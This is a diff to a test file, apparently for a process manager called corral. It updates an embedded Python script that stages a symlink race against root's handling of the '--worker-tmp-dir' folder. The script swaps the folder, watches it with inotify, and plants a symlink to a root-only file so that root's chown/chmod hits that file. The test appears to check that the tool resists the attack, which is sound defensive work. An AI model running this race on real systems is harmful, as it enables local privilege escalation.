@@ -588,8 +588,8 @@ fn corral_check_as_root_boots_the_app_as_the_workers_user() {
 
 /// The attack on `--worker-tmp-dir` (a folder the workers' user owns): it
 /// waits for root's corral to make its folder there, swaps that folder for
-/// one of its own, and when root has written the worker script into it,
-/// puts a symlink to a root-only file in its place, hoping that root's
+/// one of its own, and when root has written the worker script into it
+/// (into the folder that holds it there), puts a symlink to a root-only file in its place, hoping that root's
 /// chown/chmod of the script lands on that file. Thousands of names in the
 /// folder (a PID that runs) slowed corral's sweep of it, and widened the
 /// window the swap needs.
@@ -616,13 +616,18 @@ while time.time() < deadline and mine is None:
             os.rename(p, os.path.join(TMP, "moved-" + name))
             os.mkdir(p); os.chmod(p, 0o777)
             mine = p
-            libc.inotify_add_watch(fd, p.encode(), IN_CLOSE_WRITE)
+            libc.inotify_add_watch(fd, p.encode(), IN_CREATE | IN_CLOSE_WRITE)
             break
 print("swapped", mine, flush=True)
+# The script is written in a folder of its own in corral's ("corral").
+holder = mine
 while time.time() < deadline:
     for mask, name in events(fd):
+        if name == "corral" and mask & IN_ISDIR:
+            holder = os.path.join(mine, name)
+            libc.inotify_add_watch(fd, holder.encode(), IN_CLOSE_WRITE)
         if name == "corral_worker.py" and mask & IN_CLOSE_WRITE:
-            p = os.path.join(mine, name)
+            p = os.path.join(holder, name)
             os.rename(p, p + ".root"); os.symlink(TARGET, p)
             print("planted", p, flush=True)
             sys.exit(0)
